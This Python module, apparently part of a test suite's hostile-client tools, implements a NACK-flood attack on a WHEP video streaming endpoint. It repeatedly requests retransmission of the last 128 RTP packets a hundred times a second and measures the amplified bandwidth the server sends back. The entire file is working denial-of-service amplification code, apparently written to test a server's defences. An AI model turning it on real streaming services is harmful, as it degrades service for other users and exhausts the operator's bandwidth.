"""A viewer that requests every packet again and again: a small stream of NACKs that asks for a large one.

Run it with `PYTHONPATH=tests python -m hostile.nack_flood URL --token TOKEN`.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass

from aiortc import RTCConfiguration, RTCPeerConnection
from aiortc.rtp import RTCP_RTPFB_NACK, RtcpRtpfbPacket, RtpPacket
from hostile.whep import Endpoint, connect, main, new_client

REMEMBERED = 128
_INTERVAL_S = 0.01


@dataclass(frozen=True, slots=True)
class Result:
    """Rates in bits per second: of the NACKs, of the stream itself, and of what was sent again."""

    nack_bps: int
    first_bps: int
    again_bps: int
    most_repeats: int
    longest_gap_s: float


class _Listener:
    """Counts what arrives. The first packet of a number is the stream, every other is a repetition."""

    def __init__(self) -> None:
        self.numbers: list[int] = []
        self.first_bytes = self.again_bytes = 0
        self.longest_gap_s = 0.0
        self.repeats: dict[int, int] = {}
        self._last_s = time.monotonic()
        self.ssrc = 0

    async def take(self, packet: RtpPacket, arrival_time_ms: int) -> None:
        is_rtx = bool(self.ssrc) and packet.ssrc != self.ssrc
        number = int.from_bytes(packet.payload[:2], "big") if is_rtx else packet.sequence_number
        if is_rtx or number in self.repeats:
            self.again_bytes += len(packet.payload)
            self.repeats[number] = self.repeats.get(number, 0) + 1
            return
        self.ssrc = packet.ssrc
        self.repeats[number] = 0
        self.first_bytes += len(packet.payload)
        self.numbers = [*self.numbers[1 - REMEMBERED :], number]
        now_s = time.monotonic()
        self.longest_gap_s = max(self.longest_gap_s, now_s - self._last_s)
        self._last_s = now_s


async def attack(endpoint: Endpoint, seconds: float) -> Result:
    """Watch, and request the last 128 packets a hundred times a second."""
    peer = RTCPeerConnection(RTCConfiguration(iceServers=[]))
    receiver = peer.addTransceiver("video", direction="recvonly").receiver
    listener = _Listener()
    receiver._handle_rtp_packet = listener.take  # nothing is decoded here
    async with new_client() as client:
        try:
            await connect(endpoint, client, peer)
            async with asyncio.timeout(15):
                while len(listener.numbers) < REMEMBERED:
                    await asyncio.sleep(0.01)
            listener.first_bytes = listener.again_bytes = 0
            listener.longest_gap_s = 0.0
            started_s, nack_bytes = time.monotonic(), 0
            while (elapsed_s := time.monotonic() - started_s) < seconds:
                nack = RtcpRtpfbPacket(RTCP_RTPFB_NACK, 1, listener.ssrc, sorted(listener.numbers))
                await receiver.transport._send_rtp(bytes(nack))
                nack_bytes += len(bytes(nack))
                await asyncio.sleep(_INTERVAL_S)
        finally:
            await peer.close()
    return Result(
        round(nack_bytes * 8 / elapsed_s),
        round(listener.first_bytes * 8 / elapsed_s),
        round(listener.again_bytes * 8 / elapsed_s),
        max(listener.repeats.values()),
        round(listener.longest_gap_s, 3),
    )


if __name__ == "__main__":
    main("Ask for every packet again and again.", attack)
